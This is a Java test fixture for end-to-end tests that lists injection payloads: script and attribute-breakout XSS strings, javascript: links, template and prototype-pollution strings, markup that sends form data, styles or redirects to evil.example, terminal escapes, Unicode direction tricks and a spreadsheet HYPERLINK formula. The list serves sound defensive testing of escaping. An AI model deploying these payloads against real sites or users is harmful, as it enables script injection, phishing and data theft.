package dev.epicenter.e2e.hostile;

import java.util.List;

/** Texts that do harm where they are not escaped. Those that run set {@code hacked}; addresses lead to a host that is none. */
public final class Attacks {
    /** Longer than any text that a report shows. */
    public static final int LONG = 1_000_000;

    private Attacks() {}

    /** One for each place that a page, a drawing, a terminal or a parser of ours could be broken out of. */
    public static List<String> all() {
        return List.of(
                "<script>window.hacked=1</script>",
                "</script><script>window.hacked=1</script>",
                "<!--<script>window.hacked=1//-->",
                "\"><img src=x onerror=window.hacked=1>",
                "' autofocus onfocus='window.hacked=1' x='",
                "'\"--></style></title></textarea></template></select><svg onload=window.hacked=1>",
                "</title></svg></desc></foreignObject><script>window.hacked=1</script>",
                "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">window.hacked=1</script><![CDATA[",
                "javascript:window.hacked=1",
                "<a href=\"javascript:window.hacked=1\">click</a>",
                "<iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
                "<base href=//evil.example/><link rel=stylesheet href=x.css>",
                "<meta http-equiv=refresh content='0;url=//evil.example/'>",
                "<form id=drawer action=//evil.example/><input name=data><button>OK</button></form>",
                "</style><style>*{background:url(//evil.example/x)}</style>",
                "<div style=\"position:fixed;inset:0;background:url(//evil.example/y)\">all is well</div>",
                "${window.hacked=1} {{constructor.constructor('window.hacked=1')()}} `${hacked=1}`",
                "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e &lt;img src=x onerror=window.hacked=1&gt;",
                "__proto__ constructor hasOwnProperty toString",
                "[click](javascript:window.hacked=1) ![p](http://evil.example/p.png) <http://evil.example/>",
                "```\n# heading\n|a|b|\n|-|-|\n> quote\n- [ ] @everyone #1 https://evil.example/\n```",
                "a\"]; evil [URL=\"javascript:window.hacked=1\"]; b [label=\"",
                "end\nclick A \"javascript:window.hacked=1\"\n%%{init: {'securityLevel': 'loose'}}%%",
                "x 1\n# TYPE evil gauge\nevil{a=\"b\"} 1\\",
                "frame;frame;evil 999\nevil 1000000",
                "\u001b[2J\u001b[31mred\u0007\u0008\u009b31m",
                "\u202Eexe.gnp\u202C \u2066isolated\u2069 \u200Fmark\u200E \uFEFFzero\u200Bwidth\u00AD",
                "line\u2028separator\u2029paragraph\u0085next\u0000null\uFFFEnon",
                "\ud800 lone \udc00 surrogates \ud83d\ude00",
                "%s%n%x {0} $1 \\1",
                "=HYPERLINK(\"http://evil.example/\",\"click\")",
                "<b>" + "A".repeat(LONG) + "</b>");
    }
}
